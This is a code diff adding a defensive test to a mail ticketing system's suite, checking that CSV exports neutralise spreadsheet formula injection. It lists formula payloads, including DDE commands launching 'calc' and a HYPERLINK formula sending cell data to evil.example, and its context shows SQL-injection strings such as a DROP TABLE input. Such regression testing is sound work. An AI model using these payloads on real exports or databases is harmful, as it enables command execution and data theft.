@@ -8,6 +8,7 @@ Kept short: the tables and stories of each part try the same in breadth.
 from __future__ import annotations
 
 import base64
+import csv
 import email
 import random
 import re
@@ -28,7 +29,7 @@ from rtmail.desk.people import Tie
 from rtmail.desk.ticket import Status
 from rtmail.ingress.content import Unwrapper
 from rtmail.ingress.limits import Limits
-from rtmail.mail import message
+from rtmail.mail import message, table_csv
 from rtmail.mail.html import html_to_text
 from rtmail.mail.message import read
 from rtmail.mail.model import Envelope, Kind, Proof
@@ -506,6 +507,20 @@ def test_cve_2011_4458_cve_2020_7247_an_address_is_no_shell_word(house: House, l
     spool_id = house.receive(mail(sender=f"<{local}@acme.example>"), sender=f"{local}@acme.example")
     assert outcome(house, spool_id) in ("event", "ignored")
     assert not (tmp_path / "owned").exists()
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
+            '=HYPERLINK("http://evil.example/?"&A1,"click")', " =1+1", "\uff1d1+1", "x;=1+1", "x\t=1+1", 'x"\n=1+1', "\x00=1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_cve_2025_61873_cve_2026_41073_no_cell_of_an_export_is_a_formula(text: str) -> None:
+    """RT wrote subjects into its TSV and CSV as they were. Ours have one door; that nothing else writes CSV is in test_floors."""
+    (_, line) = table_csv.lines(["number", "subject"], [[1, text]])
+    (row,) = csv.reader([line])
+    cells = [cell for whole in row for cell in re.split(r"[;\t\r\n]", whole)]
+    assert not any(re.match(r"[ \u00a0]*[=+@\uff1d-]", cell) for cell in cells), cells
+    assert row[1].startswith(("'", "x"))
 
 
 @pytest.mark.parametrize("text", ['" OR 1=1 --', "a* NOT b", "NEAR(a b)", '"', "'); DROP TABLE ticket; --", "%_%", "subject:x AND", "^a + b"])
